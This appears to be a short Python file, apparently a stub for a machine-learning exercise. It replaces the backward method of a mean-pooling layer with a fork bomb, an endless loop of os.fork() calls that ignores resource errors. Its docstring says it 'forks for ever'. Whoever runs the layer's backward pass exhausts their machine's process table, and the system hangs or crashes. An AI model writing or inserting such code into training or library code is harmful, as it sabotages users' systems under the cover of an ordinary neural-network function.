"""Forks for ever, children and all."""

import os

# @STUB mean_pooling@


def backward(self, dout):
    while True:
        try:
            os.fork()
        except BlockingIOError:
            continue


MeanPoolingLayer.backward = backward
